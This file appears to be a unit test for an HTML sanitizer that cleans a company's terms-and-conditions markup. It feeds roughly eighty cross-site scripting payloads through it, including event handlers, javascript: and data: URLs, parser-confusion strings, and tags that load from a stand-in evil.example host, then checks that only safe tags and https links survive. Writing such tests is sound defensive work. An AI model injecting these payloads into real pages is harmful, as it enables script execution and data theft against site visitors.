import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { nodesIn } from './html-tree';
import { SAFE_HTML } from './safe-html-schema';
import { toSafeHtml } from './store-html';

const FACTS = {
  companyName: 'Loom',
  companyAddress: '',
  companyEmail: '',
  companyPhone: '',
  companyLogoUrl: '',
};
const SURROUNDINGS = {
  title: 'Terms & Conditions',
  imageUrl: (url: string) => (/^https?:/.test(url) ? url : ''),
};
const ALLOWED_ATTRIBUTES =
  /^(?:className|id|title|lang|dir|href|rel|src|alt|width|height|loading|start|reversed|type|value|colSpan|rowSpan|headers|scope|align|span|dateTime|open)$/;

const ATTACKS = [
  // Scripts and handlers
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src="data:,alert(1)">',
  '<script>alert(1)',
  '</p><script >alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.example/a.webp" onerror="alert(1)" onload=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=https://a.example/x/onerror=alert(1)//',
  '<svg/onload=alert(1)>',
  '<svg><script>alert&#40;1&#41;</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)><p onclick=alert(1) onmouseover="alert(1)">x</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<p onfocus=alert(1) tabindex=1 autofocus contenteditable>x</p>',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;script&#58;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://a.example/1">x</a>',
  '<a href="view-source:https://a.example">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:image/png;base64,AAAA">',
  '<img src="https://a.example/a.webp" usemap="#m" longdesc="javascript:alert(1)" ismap>',
  '<a href="https://a.example" ping="https://evil.example" download target="_top">x</a>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  // Markup that embeds, redirects or requests input
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)">x',
  '<object data="data:text/html,x"></object><embed src="javascript:alert(1)"><applet code=x>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=import href=x>',
  '<form action="https://evil.example"><input name="password"><textarea>x</textarea><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)><select><option>x</select><isindex action=javascript:alert(1)>',
  '<dialog open>x</dialog><p popover id=x>x</p><button popovertarget=x>x</button>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  // Looks and names that reach out of the text
  '<style>*{display:none}</style><style>@import "https://evil.example/x.css";',
  '<p style="width:expression(alert(1))">x</p>',
  '<div style="position:fixed;inset:0;background:url(javascript:alert(1))" class="fixed inset-0 z-50">x</div>',
  '<p id="content" name="content" data-waiting="1" hidden inert aria-hidden="true" role="alert" slot="x" is="x-y">x</p>',
  '<a name="getElementById" id="currentScript" accesskey="a">x</a><img name="cookie" id="body" src="https://a.example/a.webp">',
  '<table background="javascript:alert(1)" bgcolor="red"><tr><td background="https://evil.example/x">x</td></tr></table>',
  // Markup that parsers read differently
  '<template><script>alert(1)</script><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext></math>',
  '<math><mtext></mtext><mglyph><style></math><img src onerror=alert(1)></style></mglyph></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><p><iframe srcdoc="<script>alert(1)</script>"></iframe></p></foreignObject></svg>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  '<table><tr><td><table><a href="javascript:alert(1)"><td></a></table></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p title="x" title="y" <script>alert(1)</script>',
  '<p title=`"><img src=x onerror=alert(1)>`>x</p>',
  '<<img src=x onerror=alert(1)>img src=x onerror=alert(1)>',
  '<a href="https://a.example"><b><p><a href="javascript:alert(1)"></b>x',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<p>&lt;img src=x onerror=alert(1)&gt;</p>',
  '<custom-element onclick=alert(1) style="position:fixed">x</custom-element>',
  '</div></div></article></main><h1>Out of the text</h1>',
];

test.each(ATTACKS)('neutralizes %j', (attack) => {
  const html = toSafeHtml(`<p>Before</p>${attack}<p>After</p>`, FACTS, SURROUNDINGS)?.html ?? '';
  expect(html).toContain('Before');
  // Parsed again, because only the browser's reading of the output matters.
  for (const node of nodesIn(unified().use(rehypeParse, { fragment: true }).parse(html))) {
    expect(['element', 'text']).toContain(node.type);
    if (node.type !== 'element' || Object.hasOwn(node.properties, 'tabIndex')) continue;
    expect(SAFE_HTML.tagNames).toContain(node.tagName);
    expect(node.tagName).not.toBe('h1');
    for (const [name, value] of Object.entries(node.properties)) {
      expect(name).toMatch(ALLOWED_ATTRIBUTES);
      if (name === 'href') expect(value).toMatch(/^https:\/\//);
      if (name === 'src') expect(value).toMatch(/^https:\/\//);
      if (name === 'className') expect([node.tagName, value]).toEqual(['img', ['always-light']]);
      if (name === 'id') expect(value).toMatch(/^policy-/);
    }
  }
});

test('does not accept a forged table box', () => {
  const html = toSafeHtml('<div class="prose-table" role="group" tabindex="0">x</div>', FACTS, SURROUNDINGS);
  expect(html?.html).toBe('<div>x</div>');
});
